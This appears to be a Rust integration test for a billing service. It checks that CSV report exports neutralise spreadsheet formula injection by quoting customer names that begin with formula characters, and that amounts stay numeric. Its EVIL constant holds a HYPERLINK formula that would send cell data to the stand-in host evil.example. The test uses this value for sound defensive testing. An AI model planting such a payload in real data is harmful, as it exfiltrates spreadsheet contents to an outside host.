//! CSV exports neutralise formula injection (billing/src/reports.rs): a
//! customer named like a spreadsheet formula comes out as text, amounts
//! (negative ones included) as numbers.

mod common;

use billing::accounts::{upsert_accounts, Account, MeterInstallation};
use billing::run::{run_billing_with, RunRequest, StaticReads};
use billing::tariff::TariffBook;
use billing::usage::{HoldPolicy, PeriodRead};
use billing::Period;
use common::{http_text, Server, VIEWER};
use serde_json::Value;
use sqlx::PgPool;
use std::path::PathBuf;

const EVIL: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

fn account(no: &str, customer: &str) -> Account {
    Account {
        account_no: no.into(),
        customer: customer.into(),
        address: "@SUM(1+1)".into(),
        usage_type: "household".into(),
        diameter_mm: 15,
        households: 1,
        sewer_connected: true,
        levy_exempt: false,
        billing_group: "A".into(),
        meters: vec![MeterInstallation {
            meter_id: format!("M-{no}"),
            installed_at: "2026-01-01T00:00:00Z".parse().unwrap(),
            removed_at: None,
        }],
    }
}

/// The CSV's data lines, split on commas outside quotes.
fn cells(csv: &str) -> Vec<Vec<String>> {
    csv.lines()
        .skip(1)
        .map(|line| {
            let mut out = vec![String::new()];
            let mut quoted = false;
            let mut chars = line.chars().peekable();
            while let Some(c) = chars.next() {
                match c {
                    '"' if quoted && chars.peek() == Some(&'"') => {
                        chars.next();
                        out.last_mut().unwrap().push('"');
                    }
                    '"' => quoted = !quoted,
                    ',' if !quoted => out.push(String::new()),
                    c => out.last_mut().unwrap().push(c),
                }
            }
            out
        })
        .collect()
}

#[sqlx::test(migrations = false)]
async fn a_formula_in_a_customer_name_is_exported_as_text(pool: PgPool) {
    let server = Server::start(&pool).await;
    upsert_accounts(
        &pool,
        &[
            account("A1", EVIL),
            account("A2", "+82 tab\tname"),
            account("A3", "-5"),
        ],
    )
    .await
    .unwrap();
    let book = TariffBook::load(
        &PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../fixtures/tariffs/daejeon.toml"),
    )
    .unwrap();
    let period: Period = "2026-09".parse().unwrap();
    let reads: Vec<PeriodRead> = ["A1", "A2", "A3"]
        .iter()
        .map(|no| PeriodRead {
            meter_id: format!("M-{no}"),
            start_ts: period.start_utc(),
            start_volume_l: 0,
            end_ts: period.end_utc() - chrono::Duration::minutes(15),
            end_volume_l: 20_000,
            reads: 2880,
        })
        .collect();
    let never_hold = HoldPolicy {
        high_ratio: rust_decimal::Decimal::from(1_000_000),
        low_ratio: rust_decimal::Decimal::ZERO,
        min_avg_m3: i64::MAX,
    };
    let req = RunRequest {
        period,
        group: "A".into(),
        dry_run: false,
    };
    run_billing_with(&pool, &book, &req, &StaticReads(reads), &never_hold)
        .await
        .unwrap();

    for path in [
        "/api/v1/reports/ageing?format=csv&as_of=2027-03-01",
        "/api/v1/reports/arrears?format=csv&as_of=2027-03-01&min_days=30",
    ] {
        let (status, body) = http_text(server.addr, "GET", path, Some(VIEWER), String::new()).await;
        assert_eq!(status, 200, "{path}");
        let Value::String(csv) = body else {
            panic!("{path}: not CSV: {body}")
        };
        let rows = cells(&csv);
        let customer = |no: &str| rows.iter().find(|r| r[0] == no).unwrap()[1].clone();
        assert_eq!(customer("A1"), format!("'{EVIL}"), "{path}");
        assert_eq!(customer("A2"), "'+82 tab\tname", "{path}");
        assert_eq!(customer("A3"), "'-5", "{path}");
        // No cell of the export begins with a formula character.
        for row in &rows {
            for cell in &row[..2] {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{path}: {cell:?}"
                );
            }
            // Amounts stay numbers.
            for cell in &row[2..row.len().min(5)] {
                assert!(
                    cell.parse::<i64>().is_ok(),
                    "{path}: {cell:?} is not a number"
                );
            }
        }
    }

    // The trial balance's negative balances are numbers, not text.
    let (_, body) = http_text(
        server.addr,
        "GET",
        "/api/v1/ledger/trial-balance?format=csv",
        Some(VIEWER),
        String::new(),
    )
    .await;
    let Value::String(csv) = body else {
        panic!("trial balance not CSV")
    };
    let rows = cells(&csv);
    assert!(rows.iter().any(|r| r[4].starts_with('-')), "{csv}");
    assert!(rows.iter().all(|r| r[4].parse::<i64>().is_ok()), "{csv}");
    server.shutdown.cancel();
}
